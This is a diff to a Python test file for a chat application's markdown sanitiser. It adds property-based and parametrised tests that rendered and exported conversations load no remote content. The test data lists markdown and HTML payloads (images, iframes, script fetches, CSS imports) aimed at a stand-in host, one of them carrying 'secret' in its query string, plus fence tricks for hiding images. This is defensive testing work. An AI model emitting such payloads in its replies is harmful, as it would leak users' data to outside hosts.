@@ -1,5 +1,6 @@
 "Cases 48, 49 and 53 to 55: text looks like what it is, to a model and to people. What the page makes of it is in tests/test_page.py."
 import io
+import json
 import re
 import sys
 import unicodedata
@@ -150,18 +151,38 @@ REMOTE = ["![x](https://evil.test/?q=secret)", "![x][1]\n\n[1]: https://evil.tes
           "<iframe src=https://evil.test></iframe>", "<div style='background:url(https://evil.test)'>", "<link rel=prefetch href=//evil.test>", "<script>fetch('//evil.test')</script>",
           "[![x](https://evil.test/1)](https://evil.test/2)", "<style>@import url(//evil.test)</style>", "<video poster=//evil.test>", "text\n<object data=//evil.test>",
           "```\nnot closed\n![x](https://evil.test)", "para\n```\n![x](https://evil.test)\n```", "    ![x](https://evil.test)", "> ```\n![x](https://evil.test)\n> ```",
-          "~~~\n```\n~~~\n![x](https://evil.test)\n```\n", "`` ` ``![x](https://evil.test)", "<!-- ![x](https://evil.test) -->", "| a |\n|---|\n| ![x](https://evil.test) |"]
+          "~~~\n```\n~~~\n![x](https://evil.test)\n```\n", "`` ` ``![x](https://evil.test)", "<!-- ![x](https://evil.test) -->", "| a |\n|---|\n| ![x](https://evil.test) |",
+          "~~~\n\n```\n~~~\n![x](https://evil.test)\n\n```\n", "   ```\n\n```\n![x](https://evil.test)\n```", "```\na\n````\n![x](https://evil.test)\n```",
+          "```\n    ```\n```\n![x](https://evil.test)\n```", "a\r```\n![x](https://evil.test)\n```", "```a b\n\n```\n![x](https://evil.test)\n```"]
+
+
+def readers():
+    from markdown_it import MarkdownIt
+    return MarkdownIt("commonmark", {"html": True}).enable("table"), MarkdownIt("gfm-like", {"html": True, "linkify": False})
+
+
+def loads(shown):
+    "Whether a page has more than text, links and code."
+    return re.search(r"<(?!/?(p|a|code|pre|blockquote|table|thead|tbody|tr|td|th|strong|em|ul|ol|li|h[1-6]|hr|br|s)\b)\w", shown) or \
+        "src=" in re.sub(r"<pre>.*?</pre>|&lt;[^<]*", "", shown, flags=re.DOTALL)
 
 
 @pytest.mark.case(53, 54)
 @pytest.mark.parametrize("text", REMOTE)
 def test_markdown_that_is_kept_loads_nothing(text):
-    from markdown_it import MarkdownIt
-    for reader in (MarkdownIt("commonmark", {"html": True}).enable("table"), MarkdownIt("gfm-like", {"html": True, "linkify": False})):
-        shown = reader.render(still(text))
-        assert not re.search(r"<(?!/?(p|a|code|pre|blockquote|table|thead|tbody|tr|td|th|strong|em)\b)\w", shown), shown
-        assert "src=" not in re.sub(r"<pre>.*?</pre>|&lt;[^<]*", "", shown, flags=re.DOTALL)
+    assert not any(loads(reader.render(still(text))) for reader in readers())
     assert still(still(text)).count("![") == still(text).count("![")
+
+
+@pytest.mark.case(53, 54)
+@settings(max_examples=1500, deadline=None)
+@given(st.lists(st.sampled_from(["```", "~~~", "````", "~~~~", "```py", "```a b", "```x`y", "   ```", "    ```", "\t```", "> ```", "- ```", "1. ~~~", "  ", "", "a", "> a", "- a", "`", "``", "\r",
+                                 "![x](https://evil.test)", "<img src='//evil.test'>", "  ![x](//evil.test)", "> ![x](//e)", "[a]: /x '", "---", "| a |", "|---|", "<!--", "-->", "$$"]), max_size=14),
+       st.sampled_from(["\n", "\n\n", "\r\n", "\r"]))
+def test_no_fence_hides_an_image(lines, between):
+    text = between.join(lines)
+    for reader in readers():
+        assert not re.search("<img|<!--", reader.render(still(text))), text
 
 
 @pytest.mark.case(53)
@@ -178,11 +199,23 @@ def test_an_answer_below_a_cell_loads_nothing(text):
 
 
 @pytest.mark.case(53)
-@pytest.mark.xfail(strict=True, reason="javis.widgets.exports.transcript writes the words as they are: it should write still(words)")
 @pytest.mark.parametrize("kind", ["md", "ipynb"])
-def test_an_exported_conversation_loads_nothing(kind):
-    said = [Message(id="1", thread_id="t", role="user", content="hi"), Message(id="2", thread_id="t", role="assistant", content=REMOTE[0])]
-    assert "![x](" not in export_chat(said, kind)[0]
+@pytest.mark.parametrize("text", REMOTE)
+def test_an_exported_conversation_loads_nothing(kind, text):
+    said = [Message(thread_id="t", role="user", content="hi", meta={"typed": text}), Message(thread_id="t", role="assistant", content=text),
+            Message(thread_id="t", role="assistant", content=f"Look:\n```\n{text}\n```\n{text}"), Message(thread_id="t", role="user", content=text)]
+    exported = export_chat(said, kind)[0]
+    for shown in [exported] if kind == "md" else ["".join(cell["source"]) for cell in json.loads(exported)["cells"] if cell["cell_type"] == "markdown"]:
+        assert not any(loads(reader.render(shown)) for reader in readers())
+
+
+@pytest.mark.case(53)
+def test_code_in_an_export_is_as_it_was_written():
+    code = "```python\nif a<b: print('![x](y)')\n```"
+    said = [Message(thread_id="t", role="assistant", content=f"So:\n{code}\n\nThen ![x](https://evil.test)"), Message(thread_id="t", role="assistant", content=code)]
+    cells = json.loads(export_chat(said, "ipynb")[0])["cells"]
+    assert ["".join(cell["source"]) for cell in cells if cell["cell_type"] == "code"] == ["if a<b: print('![x](y)')"] * 2
+    assert export_chat(said, "md")[0].count(f"\n{code}") == 2
 
 
 # 55: terminals
